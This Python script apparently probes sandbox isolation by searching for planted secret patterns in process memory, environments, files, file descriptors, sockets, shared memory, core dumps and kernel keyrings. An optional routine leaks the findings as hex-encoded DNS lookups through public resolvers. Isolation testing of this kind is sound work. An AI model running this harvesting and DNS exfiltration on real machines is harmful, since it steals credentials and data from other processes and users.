"""Looks for secrets in every place that hostile code could reach. Standard library only; runs inside and outside alike.

    python search.py '{"patterns": ["[s]ecret…"], …}' -> JSON: {"looked": {place: how many}, "found": [[place, where]…]}

A pattern is a regular expression written so that it does not match itself ("[s]ecret"): the searcher's own memory is
searched too. Names of places: environment, arguments, memory, files, descriptors, roots, sockets, abstract, ports,
shared, cores, kernel, names.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import json
import os
import re
import socket
import stat
import struct
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

MOST_FILE, MOST_MAPPING, MOST_FILES = 4 << 20, 64 << 20, 60_000
# Programs and documentation of the distribution, the same on every machine of its kind.
SYSTEM = ("/usr/lib", "/usr/lib32", "/usr/lib64", "/usr/libx32", "/usr/libexec", "/usr/bin", "/usr/sbin", "/usr/share",
          "/usr/include", "/usr/src", "/usr/games")  # fmt: skip


class Search:
    """One search; `found` holds (place, where)."""

    def __init__(self, patterns: list[str], roots: list[str], pids: list[int] | None, ports: list[int]) -> None:
        self.pattern = re.compile(b"|".join(text.encode() for text in patterns))
        self.roots, self.ports = roots, ports
        self.pids = pids
        self.found: list[tuple[str, str]] = []
        self.looked: dict[str, int] = {}

    def look(self, place: str, where: str, data: bytes) -> None:
        self.looked[place] = self.looked.get(place, 0) + 1
        if self.pattern.search(data):
            self.found.append((place, where))

    def processes(self) -> list[int]:
        return self.pids or sorted(int(name) for name in os.listdir("/proc") if name.isdigit())

    def environment_and_arguments(self) -> None:
        self.look("environment", "self", repr(dict(os.environ)).encode())
        for pid in self.processes():
            for place, name in (("environment", "environ"), ("arguments", "cmdline"), ("arguments", "comm")):
                with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                    self.look(place, f"{pid}/{name}", file.read())

    def memory(self) -> None:
        for pid in self.processes():
            with contextlib.suppress(OSError):
                for line in Path(f"/proc/{pid}/maps").read_text(errors="replace").splitlines():
                    area, rights, _offset, _device, inode = line.split()[:5]
                    low, high = (int(part, 16) for part in area.split("-"))
                    if rights[0] != "r" or "[v" in line or (inode != "0" and "w" not in rights):
                        continue
                    with (
                        contextlib.suppress(OSError, OverflowError, ValueError),
                        open(f"/proc/{pid}/mem", "rb", 0) as memory,
                    ):
                        memory.seek(low)
                        self.look("memory", f"{pid} {area}", memory.read(min(high - low, MOST_MAPPING)))

    def walk(self) -> Iterator[tuple[str, os.stat_result]]:
        number = 0
        for root in self.roots:
            for folder, folders, names in os.walk(root):
                folders[:] = [
                    name for name in folders
                    if not f"{folder.rstrip('/')}/{name}".startswith(SYSTEM)
                    and f"{folder.rstrip('/')}/{name}" not in ("/proc", "/sys")
                ]  # fmt: skip
                for name in names:
                    path = f"{folder.rstrip('/')}/{name}"
                    with contextlib.suppress(OSError):
                        yield path, os.lstat(path)
                    number += 1
                    if number > MOST_FILES:
                        return

    def files(self) -> None:
        mine = {os.path.realpath(__file__)}
        for path, status in self.walk():
            self.look("files", f"name {path}", path.encode("utf-8", "surrogateescape"))
            if stat.S_ISSOCK(status.st_mode):
                self.socket("sockets", path)
            elif stat.S_ISREG(status.st_mode) and path not in mine:
                with contextlib.suppress(OSError), open(path, "rb") as file:
                    place = "cores" if re.search(r"(^|/)core(\.\d+)?$", path) else "files"
                    self.look(place, path, file.read(MOST_FILE))

    def descriptors(self) -> None:
        for pid in self.processes():
            with contextlib.suppress(OSError):
                for name in os.listdir(f"/proc/{pid}/fd"):
                    where = f"/proc/{pid}/fd/{name}"
                    with contextlib.suppress(OSError):
                        target = os.readlink(where)
                        self.look("descriptors", where, target.encode("utf-8", "surrogateescape"))
                        # Pipes would wait, and the searcher's own are known.
                        if target.startswith("/") and not target.startswith(("/dev/", "/proc/")):
                            with open(where, "rb") as file:
                                file.seek(0)
                                self.look("descriptors", where, file.read(MOST_FILE))

    def other_roots(self) -> None:
        for pid in self.processes():
            for way in ("root", "cwd"):
                with contextlib.suppress(OSError):
                    base = f"/proc/{pid}/{way}"
                    if os.path.samefile(base, f"/proc/self/{way}"):
                        continue
                    for name in os.listdir(base)[:200]:
                        path = f"{base}/{name}"
                        if os.path.isfile(path) and os.path.getsize(path) < MOST_FILE:
                            with open(path, "rb") as file:
                                self.look("roots", path, file.read())

    def socket(self, place: str, address: str) -> None:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as conn:
                conn.settimeout(0.3)
                conn.connect(address)
                self.looked[place] = self.looked.get(place, 0) + 1
                self.found.append((place, f"answers: {address!r}")) if place == "abstract" else None
                with contextlib.suppress(OSError):
                    # Some speak first, others want to be asked.
                    with contextlib.suppress(TimeoutError):
                        self.look(place, repr(address), conn.recv(65536))
                    conn.send(b'{"op": "check"}')
                    self.look(place, repr(address), conn.recv(65536))

    def abstract(self) -> None:
        with contextlib.suppress(OSError):
            for line in Path("/proc/net/unix").read_text(errors="replace").splitlines()[1:]:
                name = line.split()[7] if len(line.split()) > 7 else ""
                self.looked["abstract"] = self.looked.get("abstract", 0) + 1
                if name.startswith("@"):
                    self.socket("abstract", "\0" + name[1:])
        for line in ("tcp", "tcp6", "udp", "raw"):
            with contextlib.suppress(OSError):
                self.look("abstract", f"/proc/net/{line}", Path(f"/proc/net/{line}").read_bytes())

    def local_ports(self) -> None:
        for port in self.ports:
            self.looked["ports"] = self.looked.get("ports", 0) + 1
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.5) as conn:
                conn.settimeout(0.5)
                self.look("ports", str(port), conn.recv(4096))

    def shared_memory(self) -> None:
        """System V segments, as the kernel lists them; attached and read."""
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        self.looked["shared"] = self.looked.get("shared", 0) + 1
        with contextlib.suppress(OSError):
            for line in Path("/proc/sysvipc/shm").read_text(errors="replace").splitlines()[1:]:
                number, size = int(line.split()[1]), int(line.split()[3])
                at = libc.shmat(number, None, 0o10000)
                if at not in (None, ctypes.c_void_p(-1).value):
                    self.look("shared", f"shm {number}", ctypes.string_at(at, min(size, MOST_FILE)))
                    libc.shmdt(ctypes.c_void_p(at))

    def cores(self) -> None:
        """Where core dumps go: the pattern's folder, the usual collectors', and every process's working folder."""
        with contextlib.suppress(OSError):
            pattern = Path("/proc/sys/kernel/core_pattern").read_text(errors="replace").strip()
            places = [os.path.dirname(pattern)] if pattern.startswith("/") else []
            places += ["/var/lib/systemd/coredump", "/var/crash", "/var/spool/abrt", "/var/lib/apport/coredump"]
            places += [f"/proc/{pid}/cwd" for pid in self.processes()]
            for place in places:
                self.looked["cores"] = self.looked.get("cores", 0) + 1
                for path in glob.glob(f"{place}/*core*")[:50]:
                    with contextlib.suppress(OSError), open(path, "rb") as file:
                        self.look("cores", path, file.read(64 << 20))

    def kernel(self) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(1 << 20)
        size = libc.klogctl(3, buffer, len(buffer))
        self.look("kernel", "log", buffer.raw[: max(size, 0)])
        for path in ("/dev/kmsg", "/proc/keys", "/proc/kallsyms", "/proc/self/mountinfo", "/proc/version"):
            with contextlib.suppress(OSError):
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                try:
                    self.look("kernel", path, os.read(fd, 1 << 20))
                finally:
                    os.close(fd)

    def tell(self, zone: str | None) -> None:
        """Carries what was found out by name lookups, as malware does, in 30 byte labels."""
        if zone is None:
            return
        words = b";".join(f"{place}:{where}".encode() for place, where in self.found)[:600] or b"nothing"
        for at in range(0, len(words), 30):
            self.looked["names"] = self.looked.get("names", 0) + 1
            with contextlib.suppress(OSError):
                socket.getaddrinfo(f"{words[at : at + 30].hex()}.{zone}", 443)
            # Past the library too: straight at resolvers that everybody knows.
            for server in ("127.0.0.1", "8.8.8.8", "169.254.169.253"):
                with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.settimeout(0.2)
                    sock.sendto(question(f"{words[at : at + 30].hex()}.{zone}"), (server, 53))
                    sock.recv(512)


def question(name: str) -> bytes:
    """A DNS question for an A record."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def run(
    patterns: list[str],
    *,
    roots: tuple[str, ...] = ("/",),
    pids: list[int] | None = None,
    ports: tuple[int, ...] = (22, 25, 53, 80, 443, 2375, 5432, 6379, 8080, 8443, 9090, 10250),
    zone: str | None = None,
) -> dict[str, Any]:
    """Searches everywhere, tells the outside by name lookups, and reports."""
    search = Search(patterns, list(roots), pids, list(ports))
    for step in (
        search.environment_and_arguments, search.memory, search.files, search.descriptors, search.other_roots,
        search.abstract, search.local_ports, search.shared_memory, search.cores, search.kernel,
    ):  # fmt: skip
        step()
    search.tell(zone)
    return {"looked": search.looked, "found": sorted(set(search.found))}


if __name__ == "__main__":
    print(json.dumps(run(**json.loads(sys.argv[1]))))
